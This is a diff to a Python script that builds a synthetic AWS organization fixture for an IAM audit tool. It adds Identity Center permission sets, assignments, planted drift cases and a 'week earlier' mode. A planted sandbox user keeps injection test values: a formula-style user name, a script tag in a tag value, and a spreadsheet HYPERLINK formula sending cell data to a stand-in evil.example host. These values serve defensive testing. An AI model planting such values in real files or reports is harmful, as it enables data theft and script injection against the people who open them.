@@ -3,6 +3,9 @@
 
     python3 examples/make_demo_org.py            # rewrites examples/demo-org/ next to this file
     python3 examples/make_demo_org.py --out DIR  # or somewhere else
+    python3 examples/make_demo_org.py --previous [--out DIR]
+        # the same organization a week earlier (never committed; see "A week earlier" below);
+        # DIR defaults to demo-org-previous/ in the system's temporary folder
 
 Python 3.11 standard library only; the output is the same byte for byte on every run (no
 randomness, no clock: every date is relative to COLLECTED_AT). The generated folder is
@@ -57,9 +60,74 @@ on this list):
               access-analyzer-finding: UnusedIAMUserPassword (low)
   data-platform  account-not-audited
 
+IAM Identity Center (organization/identity-center/; instance ssoins-7223a1b2c3d4e5f6 owned by
+the management account, identity store d-9067c1a2b3). Each permission set is provisioned
+(AccountIds) to the accounts listed, and each provisioned pair has its role
+AWSReservedSSO_<set>_<16 hex> under /aws-reserved/sso.amazonaws.com/ in that account's
+authorization details, with the set's managed policies attached, its inline policy as
+AwsSSOInlinePolicy and its boundary as the role's (main() asserts this), except where planted:
+
+  permission set       policies                               session  provisioned to
+  AdministratorAccess  AdministratorAccess                    PT8H     management, prod
+  ReadOnlyAccess       ReadOnlyAccess                         PT1H     management, prod, dev-sandbox
+  DeveloperAccess      PowerUserAccess, boundary DeveloperBoundary (customer managed, in dev-sandbox)
+                                                              PT4H     dev-sandbox
+  Billing              job-function/Billing                   PT1H     management
+  ProdOperator         PowerUserAccess + inline Deny of deleting data
+                                                              PT4H     prod
+  PowerUserAccess      PowerUserAccess (legacy)               PT12H    dev-sandbox
+
+  people (UserName <name>@acme.example): alice.nguyen, raj.mehta, carol.jensen, diego.ramos,
+  emma.schulz, farid.haddad, priya.patel; groups: Admins (alice.nguyen, raj.mehta), Developers
+  (diego.ramos, farid.haddad), Auditors (carol.jensen, emma.schulz), Contractors (empty)
+
+  assignments  management: AdministratorAccess to Admins and to carol.jensen; ReadOnlyAccess to
+               Auditors; Billing to priya.patel and to a deleted group (once "Finance")
+               prod: AdministratorAccess to Admins and to diego.ramos (new this week);
+               ReadOnlyAccess to Auditors and to a deleted user (kenji.sato, deleted this week);
+               ProdOperator to farid.haddad
+               dev-sandbox: ReadOnlyAccess to Auditors; DeveloperAccess to Developers and to
+               Contractors
+
+  sso-admin-assignment (one per person per account, 6): alice.nguyen and raj.mehta on management
+               and on prod (via Admins); carol.jensen on management (direct); diego.ramos on prod
+               (direct)
+  long session: AdministratorAccess (admin-equivalent, PT8H, over 4 h)
+  drift        a role with no assignment on its account: AWSReservedSSO_PowerUserAccess_8b7a6c5d4e3f2a19
+               in dev-sandbox; an assignment whose role is missing: ReadOnlyAccess on dev-sandbox
+               (Auditors; the set lists dev-sandbox in AccountIds but the account has no
+               AWSReservedSSO_ReadOnlyAccess_* role); an assignment to a deleted user: ReadOnlyAccess
+               on prod, PrincipalId 9067c1a2b3-043f8e2d-1421-a67c-a816-5a3fd7555d86 (kenji.sato,
+               not in users.json); to a deleted group: Billing on management, PrincipalId
+               9067c1a2b3-0fc3de73-e54c-aef1-53e5-7c0af5227f96 ("Finance", not in groups.json); to an empty group:
+               DeveloperAccess on dev-sandbox to Contractors
+  must not     carol.jensen is not admin on prod (AdministratorAccess on management only; on prod
+               she holds ReadOnlyAccess via Auditors); diego.ramos is not admin on management;
+               nobody is admin on dev-sandbox (AdministratorAccess is not provisioned there;
+               DeveloperAccess is PowerUserAccess capped by DeveloperBoundary); emma.schulz
+               (Auditors), farid.haddad (DeveloperAccess, ProdOperator: PowerUserAccess, no IAM) and
+               priya.patel (Billing) hold no admin-equivalent set; the deleted user and group and
+               the empty group name no person; no long-session finding for PowerUserAccess (PT12H)
+               or DeveloperAccess (PT4H: not over 4 h), neither admin-equivalent; no drift for the
+               other roles (management: AdministratorAccess, ReadOnlyAccess, Billing; prod:
+               AdministratorAccess, ReadOnlyAccess, ProdOperator; dev-sandbox: DeveloperAccess),
+               each assigned on its account. The Identity Center roles' IAM findings are those
+               listed above (SSO AdministratorAccess on management and prod, ProdOperator's
+               potential path); the others raise none.
+
+A week earlier (--previous: collected 2026-11-13T06:00:00Z, every "N days ago" relative to that
+instant, absolute dates unchanged), for a run to compare this week's with:
+
+  - diego.ramos had no AdministratorAccess on prod (he gained admin on prod this week);
+  - emma.schulz was also in Admins (admin on management and prod; she lost it this week);
+  - kenji.sato was still in the identity store (his ReadOnlyAccess on prod was no drift);
+  - what was created in the last 7 days did not exist: the account data-platform (joined 6
+    days ago: not in accounts.json, scps.json or the manifest, no error.json), prod's user
+    new.hire (6 days) and dev-sandbox's user =cmd@evil (3 days).
+
 Clean look-alikes that must not fire: s3-logs-writer (only its old non-default version v1 grants
 * on *), log-archive-bucket-admin (* on one bucket), never-used service-linked roles, the
-AWSReservedSSO_ReadOnlyAccess / PowerUserAccess roles, github-actions-deploy-prod (GitHub OIDC
+AWSReservedSSO_ReadOnlyAccess / PowerUserAccess / DeveloperAccess / Billing roles, github-actions-deploy-prod (GitHub OIDC
 pinned to repo:acme-corp/payments-api:ref:refs/heads/main), eks-external-dns (IRSA pinned to one
 service account), cicd-deployer (trusts the management account's org-pipeline role),
 org-readonly-access (Principal AWS * limited by aws:PrincipalOrgID), dev.kim (PowerUserAccess),
@@ -90,6 +158,7 @@ import hashlib
 import io
 import json
 import shutil
+import tempfile
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
@@ -240,6 +309,188 @@ AWS_MANAGED = {
 }
 
 
+# --- IAM Identity Center (organization/identity-center/) ------------------------------------
+
+# --previous: the organization as it stood a week before COLLECTED_AT (set by main()).
+PREVIOUS = False
+
+IC_INSTANCE = "ssoins-7223a1b2c3d4e5f6"
+IC_STORE = "d-9067c1a2b3"
+IC_CREATED = datetime(2023, 1, 24, 13, 55, 12, 418000, tzinfo=timezone.utc)
+DEVELOPER_ACCESS_CREATED = datetime(2026, 3, 9, 10, 15, 0, tzinfo=timezone.utc)
+
+# name: its description, session duration, AWS managed policies, inline policy, boundary (a
+# customer managed policy reference: the policy of that name must exist in every account the
+# set is provisioned to), the accounts it is provisioned to (AccountIds), and its id.
+PERMISSION_SETS = {
+    "AdministratorAccess": dict(
+        id="ps-6804f1b9a2c3d4e5", description="Full administrator access", duration="PT8H",
+        managed=["AdministratorAccess"], inline=None, boundary=None, accounts=[MGMT, PROD], created=IC_CREATED),
+    "ReadOnlyAccess": dict(
+        id="ps-1f3e5d7c9b0a2468", description="Read-only access to every service", duration="PT1H",
+        managed=["ReadOnlyAccess"], inline=None, boundary=None, accounts=[MGMT, PROD, DEV], created=IC_CREATED),
+    "DeveloperAccess": dict(
+        id="ps-9a8b7c6d5e4f3021", description="Power user for the sandbox, capped by DeveloperBoundary",
+        duration="PT4H", managed=["PowerUserAccess"], inline=None, boundary="DeveloperBoundary",
+        boundary_document=doc(allow(["ec2:*", "s3:*", "lambda:*", "dynamodb:*", "logs:*", "cloudwatch:*", "sqs:*",
+                                     "sns:*", "ecr:*", "ecs:*", "cloudformation:*", "ssm:GetParameter*"],
+                                    sid="WorkloadServicesOnly")),
+        accounts=[DEV], created=DEVELOPER_ACCESS_CREATED),
+    "Billing": dict(
+        id="ps-2c4e6a8b0d1f3579", description="Billing and cost management", duration="PT1H",
+        managed=["job-function/Billing"], inline=None, boundary=None, accounts=[MGMT], created=IC_CREATED),
+    "ProdOperator": dict(
+        id="ps-7e5c3a1f9d8b6402", description="Operate production workloads; no IAM, no deleting data",
+        duration="PT4H", managed=["PowerUserAccess"],
+        inline=doc(deny(["rds:DeleteDBInstance", "rds:DeleteDBCluster", "dynamodb:DeleteTable",
+                         "s3:DeleteBucket"], sid="NoDeletingData")),
+        boundary=None, accounts=[PROD], created=IC_CREATED),
+    # Replaced by DeveloperAccess; still provisioned to the sandbox, no assignment left.
+    "PowerUserAccess": dict(
+        id="ps-4b6d8f0a2c1e3957", description="Legacy: use DeveloperAccess", duration="PT12H",
+        managed=["PowerUserAccess"], inline=None, boundary=None, accounts=[DEV], created=IC_CREATED),
+}
+
+# The identity store's people: user name (their sign-in, an email address), given and family name.
+IC_PEOPLE = [
+    ("alice.nguyen", "Alice", "Nguyen"),
+    ("raj.mehta", "Raj", "Mehta"),
+    ("carol.jensen", "Carol", "Jensen"),
+    ("diego.ramos", "Diego", "Ramos"),
+    ("emma.schulz", "Emma", "Schulz"),
+    ("farid.haddad", "Farid", "Haddad"),
+    ("priya.patel", "Priya", "Patel"),
+]
+# Left the company this week: deleted from the identity store, the direct assignment stayed.
+IC_DELETED_USER = ("kenji.sato", "Kenji", "Sato")
+# A group deleted long ago ("Finance"): its assignment stayed.
+IC_DELETED_GROUP = "Finance"
+
+IC_GROUPS = [
+    # name, description, members (this week)
+    ("Admins", "Organization administrators", ["alice.nguyen", "raj.mehta"]),
+    ("Developers", "Application developers (sandbox)", ["diego.ramos", "farid.haddad"]),
+    ("Auditors", "Internal audit and security review: read-only everywhere", ["carol.jensen", "emma.schulz"]),
+    ("Contractors", "External contractors (nobody at the moment)", []),
+]
+# A week earlier emma.schulz was still in Admins (she moved to Auditors this week).
+IC_GROUPS_PREVIOUS = {"Admins": ["alice.nguyen", "raj.mehta", "emma.schulz"]}
+
+IC_ASSIGNMENTS = [
+    # account, permission set, principal type, user name or group name
+    (MGMT, "AdministratorAccess", "GROUP", "Admins"),
+    (MGMT, "AdministratorAccess", "USER", "carol.jensen"),  # admin on management only
+    (MGMT, "ReadOnlyAccess", "GROUP", "Auditors"),
+    (MGMT, "Billing", "USER", "priya.patel"),
+    (MGMT, "Billing", "GROUP", IC_DELETED_GROUP),  # drift: deleted group
+    (PROD, "AdministratorAccess", "GROUP", "Admins"),
+    (PROD, "AdministratorAccess", "USER", "diego.ramos"),  # new this week
+    (PROD, "ReadOnlyAccess", "GROUP", "Auditors"),
+    (PROD, "ReadOnlyAccess", "USER", IC_DELETED_USER[0]),  # drift: deleted user (this week)
+    (PROD, "ProdOperator", "USER", "farid.haddad"),
+    (DEV, "ReadOnlyAccess", "GROUP", "Auditors"),  # drift: its role was deleted from the account
+    (DEV, "DeveloperAccess", "GROUP", "Developers"),
+    (DEV, "DeveloperAccess", "GROUP", "Contractors"),  # drift: empty group
+]
+IC_NEW_THIS_WEEK = {(PROD, "AdministratorAccess", "USER", "diego.ramos")}
+# Provisioned (in AccountIds) but the AWSReservedSSO role is not in the account.
+IC_MISSING_ROLES = {(DEV, "ReadOnlyAccess")}
+
+
+def store_id(*parts):
+    """An identity store id as AWS makes them: the store's digits, then a UUID."""
+    h = hashlib.sha256("/".join(parts).encode()).hexdigest()
+    return f"{IC_STORE[2:]}-{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}"
+
+
+def permission_set_arn(name):
+    return f"arn:aws:sso:::permissionSet/{IC_INSTANCE}/{PERMISSION_SETS[name]['id']}"
+
+
+def user_id(user_name):
+    return store_id("user", user_name)
+
+
+def group_id(group_name):
+    return store_id("group", group_name)
+
+
+def identity_center_files():
+    """The files of organization/identity-center/, by name, for this week (or a week earlier)."""
+    instances = {"Instances": [{
+        "InstanceArn": f"arn:aws:sso:::instance/{IC_INSTANCE}", "IdentityStoreId": IC_STORE,
+        "OwnerAccountId": MGMT, "Name": "acme", "CreatedDate": iso_us(IC_CREATED), "Status": "ACTIVE"}]}
+
+    sets = []
+    for name, ps in PERMISSION_SETS.items():
+        entry = {"Name": name, "PermissionSetArn": permission_set_arn(name), "Description": ps["description"],
+                 "CreatedDate": iso_us(ps["created"]), "SessionDuration": ps["duration"],
+                 "AttachedManagedPolicies": [{"Name": m.rsplit("/", 1)[-1], "Arn": f"arn:aws:iam::aws:policy/{m}"}
+                                             for m in ps["managed"]],
+                 "CustomerManagedPolicyReferences": []}
+        if ps["inline"]:
+            entry["InlinePolicy"] = ps["inline"]
+        if ps["boundary"]:
+            entry["PermissionsBoundary"] = {"CustomerManagedPolicyReference": {"Name": ps["boundary"], "Path": "/"}}
+        entry["AccountIds"] = list(ps["accounts"])
+        sets.append(entry)
+
+    people = IC_PEOPLE + ([IC_DELETED_USER] if PREVIOUS else [])
+    users = {"Users": [{
+        "UserName": f"{name}@acme.example", "UserId": user_id(name),
+        "Name": {"FamilyName": family, "GivenName": given}, "DisplayName": f"{given} {family}",
+        "Emails": [{"Value": f"{name}@acme.example", "Type": "work", "Primary": True}],
+        "IdentityStoreId": IC_STORE,
+    } for name, given, family in people]}
+    groups = {"Groups": [{"GroupId": group_id(name), "DisplayName": name, "Description": description,
+                          "IdentityStoreId": IC_STORE} for name, description, _ in IC_GROUPS]}
+    memberships = {"GroupMemberships": [
+        {"IdentityStoreId": IC_STORE, "MembershipId": store_id("membership", name, member),
+         "GroupId": group_id(name), "MemberId": {"UserId": user_id(member)}}
+        for name, _, members in IC_GROUPS
+        for member in (IC_GROUPS_PREVIOUS.get(name, members) if PREVIOUS else members)]}
+
+    assignments = {"AccountAssignments": [{
+        "AccountId": account, "PermissionSetArn": permission_set_arn(name), "PrincipalType": kind,
+        "PrincipalId": user_id(principal) if kind == "USER" else group_id(principal),
+    } for account, name, kind, principal in IC_ASSIGNMENTS
+        if not (PREVIOUS and (account, name, kind, principal) in IC_NEW_THIS_WEEK)]}
+    return {"status.json": {"Collected": True}, "instances.json": instances, "permission-sets.json": {"PermissionSets": sets},
+            "account-assignments.json": assignments, "users.json": users, "groups.json": groups,
+            "group-memberships.json": memberships}
+
+
+def check_identity_center(accounts):
+    """The roles in each account's authorization details agree with the permission sets: every
+    provisioned pair has its AWSReservedSSO role (but the planted missing one), with the set's
+    managed policies, inline policy and boundary, and every such role belongs to a set
+    provisioned to its account."""
+    roles = {a.id: {r["RoleName"]: r for r in a.roles} for a in accounts}
+    for name, ps in PERMISSION_SETS.items():
+        for account in ps["accounts"]:
+            found = [r for n, r in roles[account].items() if n.startswith(f"AWSReservedSSO_{name}_")]
+            if (account, name) in IC_MISSING_ROLES:
+                assert not found, (account, name)
+                continue
+            assert len(found) == 1, (account, name, found)
+            role = found[0]
+            assert role["Path"] == "/aws-reserved/sso.amazonaws.com/", role["Arn"]
+            assert len(role["RoleName"].rsplit("_", 1)[1]) == 16, role["RoleName"]
+            assert sorted(p["PolicyArn"] for p in role["AttachedManagedPolicies"]) == sorted(
+                f"arn:aws:iam::aws:policy/{m}" for m in ps["managed"]), role["Arn"]
+            inline = {p["PolicyName"]: p["PolicyDocument"] for p in role["RolePolicyList"]}
+            assert inline == ({"AwsSSOInlinePolicy": ps["inline"]} if ps["inline"] else {}), role["Arn"]
+            boundary = role.get("PermissionsBoundary", {}).get("PermissionsBoundaryArn")
+            assert boundary == (f"arn:aws:iam::{account}:policy/{ps['boundary']}" if ps["boundary"] else None)
+    for account, by_name in roles.items():
+        for role_name in by_name:
+            if role_name.startswith("AWSReservedSSO_"):
+                name = role_name[len("AWSReservedSSO_"):].rsplit("_", 1)[0]
+                assert account in PERMISSION_SETS[name]["accounts"], role_name
+    for account, name, _, _ in IC_ASSIGNMENTS:
+        assert account in PERMISSION_SETS[name]["accounts"], (account, name)
+
+
 # --- one account's IAM graph and credential report ------------------------------------------
 
 class Account:
@@ -372,9 +623,12 @@ class Account:
         self.role(name, created, trust_service(service), attached=[self.aws_policy(policy)],
                   path=f"/aws-service-role/{service}/", last_used=last_used)
 
-    def sso_role(self, permission_set, suffix, created, attached, last_used):
+    def sso_role(self, permission_set, suffix, created, attached, last_used, inline=None, boundary=None):
+        """The role Identity Center provisions for a permission set: its managed policies attached,
+        its inline policy as AwsSSOInlinePolicy, its boundary as the role's."""
         self.role(f"AWSReservedSSO_{permission_set}_{suffix}", created, trust_sso(self.id), attached=attached,
-                  path="/aws-reserved/sso.amazonaws.com/", last_used=last_used)
+                  path="/aws-reserved/sso.amazonaws.com/", last_used=last_used,
+                  inline={"AwsSSOInlinePolicy": inline} if inline else None, boundary=boundary)
 
     def audit_role(self, last_used):
         """IamAuditorRole: what the audit itself assumes in every member account."""
@@ -570,7 +824,8 @@ def prod():
            password=(5, 190), mfa=True, tags=[("company", "Northwind Consulting"), ("expires", "2027-04-01")])
     a.user("maria.garcia", datetime(2019, 2, 11, 10, 22, 3, tzinfo=timezone.utc), groups=["Operators"],
            password=(1, 77), mfa=True)
-    a.user("new.hire", ago(6, 3, 10), groups=["Operators"], password=(None, 6), mfa=True)
+    if not PREVIOUS:  # created 6 days ago: not there a week ago
+        a.user("new.hire", ago(6, 3, 10), groups=["Operators"], password=(None, 6), mfa=True)
     a.user("tom.ito", datetime(2020, 9, 14, 8, 0, 0, tzinfo=timezone.utc), groups=["Operators"],
            password=(0, 52), mfa=True)
     a.user("ines.silva", datetime(2022, 1, 10, 9, 30, 0, tzinfo=timezone.utc), groups=["Operators"],
@@ -680,7 +935,8 @@ def prod():
     sso_created = datetime(2023, 1, 24, 14, 10, 0, tzinfo=timezone.utc)
     a.sso_role("AdministratorAccess", "0b6e2f8d4c1a9e37", sso_created, [admin], last_used=4)
     a.sso_role("ReadOnlyAccess", "7a3c5e9b1d2f4068", sso_created, [readonly], last_used=0)
-    a.sso_role("ProdOperator", "e4d2c6a8b0f13579", sso_created, [a.aws_policy("PowerUserAccess")], last_used=0)
+    a.sso_role("ProdOperator", "e4d2c6a8b0f13579", sso_created, [a.aws_policy("PowerUserAccess")], last_used=0,
+               inline=PERMISSION_SETS["ProdOperator"]["inline"])
 
     a.service_linked_role("ecs.amazonaws.com", "AWSServiceRoleForECS", "aws-service-role/AmazonECSServiceRolePolicy",
                           datetime(2019, 2, 4, 11, 0, 0, tzinfo=timezone.utc), last_used=0)
@@ -762,11 +1018,12 @@ def dev_sandbox():
            inline={"self-service": doc(allow(["iam:PutUserPolicy", "iam:AttachUserPolicy"],
                                              f"arn:aws:iam::{DEV}:user/${{aws:username}}"))})
     # Created three days ago by someone with sandbox admin; its name is a spreadsheet formula.
-    a.user("=cmd@evil", ago(3, 4, 11), password=(2, 3), mfa=False,
-           inline={"self-service": doc(allow(["iam:AttachUserPolicy", "iam:PutUserPolicy", "iam:ListAttachedUserPolicies"],
-                                              f"arn:aws:iam::{DEV}:user/*"))},
-           tags=[("owner", "<b>bob</b><script>alert('owner')</script>"),
-                 ("cost-center", '=HYPERLINK("http://evil.example/steal?c="&A1,"invoice")')])
+    if not PREVIOUS:  # not there a week ago
+        a.user("=cmd@evil", ago(3, 4, 11), password=(2, 3), mfa=False,
+               inline={"self-service": doc(allow(["iam:AttachUserPolicy", "iam:PutUserPolicy", "iam:ListAttachedUserPolicies"],
+                                                  f"arn:aws:iam::{DEV}:user/*"))},
+               tags=[("owner", "<b>bob</b><script>alert('owner')</script>"),
+                     ("cost-center", '=HYPERLINK("http://evil.example/steal?c="&A1,"invoice")')])
 
     a.root_row(datetime(2019, 11, 4, 13, 37, 0, tzinfo=timezone.utc), password_used=75, mfa=False,
                key=(datetime(2019, 11, 4, 13, 52, 0, tzinfo=timezone.utc), 75, "us-east-1", "s3"))
@@ -797,8 +1054,15 @@ def dev_sandbox():
     a.role("sandbox-lambda-exec", ago(40, 5), trust_service("lambda.amazonaws.com"),
            inline={"logs": doc(allow(["logs:CreateLogStream", "logs:PutLogEvents"]))}, last_used=2)
 
+    # PowerUserAccess was replaced by DeveloperAccess (capped by DeveloperBoundary) in March; the
+    # old permission set is still provisioned here, with no assignment left (Identity Center drift).
     a.sso_role("PowerUserAccess", "8b7a6c5d4e3f2a19", datetime(2023, 1, 24, 14, 20, 0, tzinfo=timezone.utc),
                [power], last_used=1)
+    developer_boundary = a.customer_policy("DeveloperBoundary", [
+        (PERMISSION_SETS["DeveloperAccess"]["boundary_document"], 250, True),
+    ], DEVELOPER_ACCESS_CREATED, description="Identity Center DeveloperAccess: workload services only; no IAM, no STS")
+    a.sso_role("DeveloperAccess", "3e9f1a7c5b2d8e40", DEVELOPER_ACCESS_CREATED, [power], last_used=0,
+               boundary=developer_boundary)
     a.service_linked_role("support.amazonaws.com", "AWSServiceRoleForSupport",
                           "aws-service-role/AWSSupportServiceRolePolicy",
                           datetime(2019, 11, 4, 13, 38, 30, tzinfo=timezone.utc))
@@ -840,17 +1104,22 @@ ACCOUNTS = [
 ]
 
 
+def org_accounts():
+    """ACCOUNTS, as the organization stood (a week earlier, data-platform had not joined yet)."""
+    return [a for a in ACCOUNTS if not (PREVIOUS and a[0] == DATA)]
+
+
 def organization_files():
     accounts = [{
         "Id": account_id, "Arn": f"arn:aws:organizations::{MGMT}:account/{ORG_ID}/{account_id}", "Email": email,
         "Name": name, "Status": status, "State": status, "JoinedMethod": method, "JoinedTimestamp": iso_us(joined),
-    } for account_id, name, email, status, method, joined, _ in ACCOUNTS]
+    } for account_id, name, email, status, method, joined, _ in org_accounts()]
 
     def target(target_id):
         kind = "ROOT" if target_id.startswith("r-") else "ORGANIZATIONAL_UNIT" if target_id.startswith("ou-") else "ACCOUNT"
         return {"TargetId": target_id, "Arn": target_arn(target_id), "Name": target_name(target_id), "Type": kind}
 
-    every_node = [ROOT_ID, OU_WORKLOADS, OU_SANDBOX, OU_SUSPENDED] + [a[0] for a in ACCOUNTS]
+    every_node = [ROOT_ID, OU_WORKLOADS, OU_SANDBOX, OU_SUSPENDED] + [a[0] for a in org_accounts()]
     scps = [
         {"Id": "p-FullAWSAccess", "Arn": "arn:aws:organizations::aws:policy/service_control_policy/p-FullAWSAccess",
          "Name": "FullAWSAccess", "Description": "Allows access to every operation", "AwsManaged": True,
@@ -879,7 +1148,7 @@ def organization_files():
     return (
         {"Accounts": accounts},
         {"OrganizationId": ORG_ID, "RootId": ROOT_ID, "Policies": scps,
-         "AccountPaths": {account_id: path for account_id, *_, path in ACCOUNTS}},
+         "AccountPaths": {account_id: path for account_id, *_, path in org_accounts()}},
     )
 
 
@@ -909,9 +1178,19 @@ def write_json(path, value, indent=4):
 
 
 def main():
+    global COLLECTED_AT, PREVIOUS
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
-    parser.add_argument("--out", type=Path, default=Path(__file__).resolve().parent / "demo-org")
-    out = parser.parse_args().out
+    parser.add_argument("--out", type=Path,
+                        help="where to write (default: demo-org/ next to this script; with --previous, "
+                             "demo-org-previous/ in the system's temporary folder)")
+    parser.add_argument("--previous", action="store_true",
+                        help="the organization a week earlier (collected 7 days before), for a run to compare with")
+    args = parser.parse_args()
+    if args.previous:
+        PREVIOUS = True
+        COLLECTED_AT -= timedelta(days=7)
+    out = args.out or (Path(tempfile.gettempdir()) / "demo-org-previous" if args.previous
+                       else Path(__file__).resolve().parent / "demo-org")
     if out.exists():
         shutil.rmtree(out)
 
@@ -919,8 +1198,12 @@ def main():
     write_json(out / "organization" / "accounts.json", accounts_json)
     write_json(out / "organization" / "scps.json", scps_json)
 
-    for build in (management, prod, dev_sandbox):
-        account, password_policy, analyzers, summary = build()
+    built = [build() for build in (management, prod, dev_sandbox)]
+    check_identity_center([account for account, *_ in built])
+    for name, value in identity_center_files().items():
+        write_json(out / "organization" / "identity-center" / name, value)
+
+    for account, password_policy, analyzers, summary in built:
         folder = out / "accounts" / account.id
         write_json(folder / "account-authorization-details.json", account.authorization_details())
         folder.joinpath("credential-report.csv").write_text(account.credential_report(), encoding="utf-8")
@@ -930,12 +1213,13 @@ def main():
             write_json(folder / "access-analyzer" / f"{region}.json", data)
 
     caller = f"arn:aws:sts::{MGMT}:assumed-role/iam-auditor-task/7d1c0a2e9b4f4c3a8e5d6f7a8b9c0d1e"
-    write_json(out / "accounts" / DATA / "error.json", {
-        "stage": "assume-role",
-        "code": "AccessDenied",
-        "message": f"User: {caller} is not authorized to perform: sts:AssumeRole on resource: "
-                   f"arn:aws:iam::{DATA}:role/IamAuditorRole",
-    })
+    if not PREVIOUS:  # a week earlier data-platform was not in the organization
+        write_json(out / "accounts" / DATA / "error.json", {
+            "stage": "assume-role",
+            "code": "AccessDenied",
+            "message": f"User: {caller} is not authorized to perform: sts:AssumeRole on resource: "
+                       f"arn:aws:iam::{DATA}:role/IamAuditorRole",
+        })
 
     status = {DATA: ("failed", "sts:AssumeRole into IamAuditorRole was denied"),
               LEGACY: ("skipped", "account is SUSPENDED in the organization")}
@@ -948,7 +1232,7 @@ def main():
         "regions": REGIONS,
         "accounts": [],
     }
-    for account_id, name, *_ in ACCOUNTS:
+    for account_id, name, *_ in org_accounts():
         entry = {"account_id": account_id, "name": name, "status": status.get(account_id, ("collected",))[0]}
         if account_id in status:
             entry["reason"] = status[account_id][1]
